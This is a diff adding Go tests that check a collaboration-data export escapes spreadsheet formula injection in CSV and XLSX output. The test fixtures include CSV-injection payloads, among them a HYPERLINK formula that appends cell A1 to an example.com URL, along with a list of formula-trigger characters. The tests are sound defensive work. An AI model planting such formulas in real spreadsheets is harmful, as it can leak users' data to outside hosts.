@@ -1,11 +1,15 @@
 package tabular_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"io"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -164,5 +168,135 @@ func TestExportJSONPublic(t *testing.T) {
 	}
 	if err := json.Unmarshal(buf.Bytes(), &out); err != nil || len(out.Collaborations) != 1 {
 		t.Errorf("decode: %v, %d records", err, len(out.Collaborations))
+	}
+}
+
+// formulaTitles start like spreadsheet formulas: Excel runs them when it
+// opens a CSV, unless they are neutralised.
+var formulaTitles = []string{`=HYPERLINK("http://example.com/?q="&A1,"Klicka här")`, "+46 växeln", "-500", "@SUM(A1:A9)", "Vanlig titel", "'Citerad"}
+
+func seedFormulas(tb testing.TB, db *sqldb.DB) {
+	tb.Helper()
+	for i, title := range formulaTitles {
+		c := sqldbtest.Collaboration(title, "0662", "0617")
+		c.Networks = []string{"ggvv"}
+		c.AnnualCost = ptr(int64(500 * (i + 1)))
+		c.Description = "=1+1"
+		sqldbtest.MustCreateCollaboration(tb, db, c)
+	}
+}
+
+// TestCSVFormulasNeutralised: every text field that starts with = + - @
+// (or tab or CR) gets a leading quote in the CSV export, numbers do not,
+// and importing the CSV gives the text back.
+func TestCSVFormulasNeutralised(t *testing.T) {
+	src := newTestDB(t)
+	seedFormulas(t, src)
+	e, err := tabular.Load(context.Background(), src, src.Catalog(), "ggvv", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := e.WriteCSV(&buf); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
+	r.Comma = ';'
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	head := recs[0]
+	col := func(name string) int { return slices.Index(head, name) }
+	titles := map[string]bool{}
+	for _, rec := range recs[1:] {
+		title, cost := rec[col("Namn")], rec[col("Årlig kostnad")]
+		titles[title] = true
+		if title[0] != '\'' && strings.ContainsRune("=+-@\t\r", rune(title[0])) {
+			t.Errorf("title %q written as it is", title)
+		}
+		if d := rec[col("Beskrivning")]; d != "'=1+1" {
+			t.Errorf("description %q, want '=1+1", d)
+		}
+		if _, err := strconv.Atoi(cost); err != nil || strings.HasPrefix(cost, "'") {
+			t.Errorf("cost %q is no longer a number", cost)
+		}
+		if _, err := strconv.Atoi(rec[col("ID")]); err != nil {
+			t.Errorf("ID %q is no longer a number", rec[col("ID")])
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("http://example.com/?q="&A1,"Klicka här")`, "'+46 växeln", "'-500", "'@SUM(A1:A9)", "Vanlig titel", "'Citerad"} {
+		if !titles[want] {
+			t.Errorf("no title %q in %v", want, titles)
+		}
+	}
+
+	dst := newTestDB(t)
+	mustImport(t, dst, buf.Bytes())
+	var got []string
+	for _, c := range collabs(t, dst) {
+		got = append(got, c.Title)
+		if c.Description != "=1+1" {
+			t.Errorf("%s: description %q after the round trip", c.Title, c.Description)
+		}
+	}
+	want := slices.Clone(formulaTitles)
+	slices.Sort(want)
+	slices.Sort(got)
+	if !slices.Equal(got, want) {
+		t.Errorf("titles after the round trip:\n got %q\nwant %q", got, want)
+	}
+	if _, res := mustImport(t, src, buf.Bytes()); res.Unchanged != len(formulaTitles) {
+		t.Errorf("re-import into the source: %+v", res)
+	}
+}
+
+// TestXLSXFormulasAreText: the XLSX export stores text that looks like a
+// formula as a text cell: no formula, nothing for Excel to run.
+func TestXLSXFormulasAreText(t *testing.T) {
+	db := newTestDB(t)
+	seedFormulas(t, db)
+	e, err := tabular.Load(context.Background(), db, db.Catalog(), "ggvv", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := e.WriteXLSX(&buf); err != nil {
+		t.Fatal(err)
+	}
+	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range zr.File {
+		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
+			continue
+		}
+		rc, _ := f.Open()
+		b, _ := io.ReadAll(rc)
+		rc.Close()
+		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
+			t.Errorf("%s holds a formula", f.Name)
+		}
+	}
+	x, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, _ := x.GetRows("Samverkan")
+	found := 0
+	for i, row := range rows[1:] {
+		if !slices.Contains(formulaTitles, row[1]) {
+			continue
+		}
+		found++
+		cell := fmt.Sprintf("B%d", i+2)
+		typ, _ := x.GetCellType("Samverkan", cell)
+		if f, _ := x.GetCellFormula("Samverkan", cell); f != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
+			t.Errorf("%s %q: type %v, formula %q", cell, row[1], typ, f)
+		}
+	}
+	if found != len(formulaTitles) {
+		t.Errorf("found %d of the titles as they are, want %d: %v", found, len(formulaTitles), rows)
 	}
 }
